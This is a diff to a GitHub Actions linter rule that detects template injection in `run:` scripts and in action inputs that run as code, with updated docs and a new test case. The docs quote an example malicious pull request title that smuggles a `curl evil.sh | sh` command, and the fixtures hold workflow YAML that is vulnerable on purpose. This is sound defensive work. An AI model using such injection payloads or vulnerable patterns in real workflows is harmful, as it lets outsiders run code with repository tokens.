@@ -8,9 +8,11 @@ const rule: Rule<WorkflowModel> = {
   language: 'workflow',
   severity: 'warning',
   compat: { actionlint: 'expression' },
+  aliases: ['template-injection'],
   docs: {
-    summary: 'A `${{ }}` in a `run:` script (or an `actions/github-script` script) expands text an outsider controls: issue and pull request titles and bodies, comments, branch names, commit messages.',
-    why: 'GitHub pastes the value into the script before it runs, so a pull request titled `"; curl evil.sh | sh; "` runs that command with your token (script injection). Pass the value through `env:` and use the shell variable instead. The quick fix does that with the reference the place needs (`"$NAME"`, `$NAME` inside double quotes or an unquoted here-document, `$env:NAME` in PowerShell, `%NAME%` in cmd, `process.env.NAME` in github-script); it is not offered where no variable reads the same text (a quoted here-document, a PowerShell literal here-string, a regular expression literal), where the shell is not the same on every runner of a matrix, or where the step is shared through a YAML alias.',
+    summary:
+      "A `${{ }}` in a `run:` script, or in an action input that runs as code (`actions/github-script`'s `script`, `azure/cli`'s and `azure/powershell`'s `inlineScript`, `appleboy/ssh-action`'s `script`, and a few more), expands text an outsider controls: issue and pull request titles and bodies, comments, branch names, commit messages (zizmor's `template-injection`).",
+    why: 'GitHub pastes the value into the script before it runs, so a pull request titled `"; curl evil.sh | sh; "` runs that command with your token (script injection). Pass the value through `env:` and use the shell variable instead. The quick fix does that with the reference the place needs (`"$NAME"`, `$NAME` inside double quotes or an unquoted here-document, `$env:NAME` in PowerShell, `%NAME%` in cmd, `process.env.NAME` in github-script); it is not offered where no variable reads the same text (a quoted here-document, a PowerShell literal here-string, a regular expression literal), where the shell is not the same on every runner of a matrix, or where the step is shared through a YAML alias. The other actions get no fix (their scripts run elsewhere: in a container, over SSH). See https://docs.zizmor.sh/audits/#template-injection.',
     bad: 'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.issue.title }}"\n',
     good: 'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "$TITLE"\n        env:\n          TITLE: ${{ github.event.issue.title }}\n',
   },
@@ -132,6 +134,18 @@ const rule: Rule<WorkflowModel> = {
       expect: [{ line: 9 }, { line: 10 }, { line: 14 }, { line: 15 }],
       fixed:
         "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            if (/${{ github.event.issue.title }}/.test(x)) return;\n            const t = String.raw`${{ github.event.issue.title }}`;\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            const n = ('a' + process.env.ISSUE_BODY + 'b').length;\n            const o = JSON.parse(`${process.env.ISSUE_BODY}`) / 2;\n        env:\n          ISSUE_BODY: ${{ github.event.issue.body }}\n",
+    },
+    {
+      name: 'inputs of other actions that run as code; other inputs and actions are plain text',
+      input:
+        "on: issue_comment\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: azure/cli@v2\n        with:\n          azcliversion: latest\n          inlineScript: az group show -n ${{ github.event.comment.body }}\n      - uses: appleboy/ssh-action@v1\n        with:\n          host: example.com\n          script: echo ${{ github.event.issue.title }}\n      - uses: Azure/PowerShell@v2\n        with:\n          InlineScript: Write-Output '${{ github.event.comment.body }}'\n      - uses: actions/github-script@v7\n        with:\n          github-token: ${{ github.event.comment.body }}\n          script: return 1\n      - uses: peter-evans/create-or-update-comment@v4\n        with:\n          body: ${{ github.event.comment.body }}\n      - uses: someone/run-anything@v1\n        with:\n          script: ${{ github.event.comment.body }}\n",
+      expect: [
+        { line: 9, col: 46, message: '"github.event.comment.body" is potentially untrusted' },
+        { line: 13, col: 28, message: 'github.event.issue.title' },
+        { line: 16, col: 43, message: 'github.event.comment.body' },
+      ],
+      fixed:
+        "on: issue_comment\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: azure/cli@v2\n        with:\n          azcliversion: latest\n          inlineScript: az group show -n ${{ github.event.comment.body }}\n      - uses: appleboy/ssh-action@v1\n        with:\n          host: example.com\n          script: echo ${{ github.event.issue.title }}\n      - uses: Azure/PowerShell@v2\n        with:\n          InlineScript: Write-Output '${{ github.event.comment.body }}'\n      - uses: actions/github-script@v7\n        with:\n          github-token: ${{ github.event.comment.body }}\n          script: return 1\n      - uses: peter-evans/create-or-update-comment@v4\n        with:\n          body: ${{ github.event.comment.body }}\n      - uses: someone/run-anything@v1\n        with:\n          script: ${{ github.event.comment.body }}\n",
     },
   ],
 };
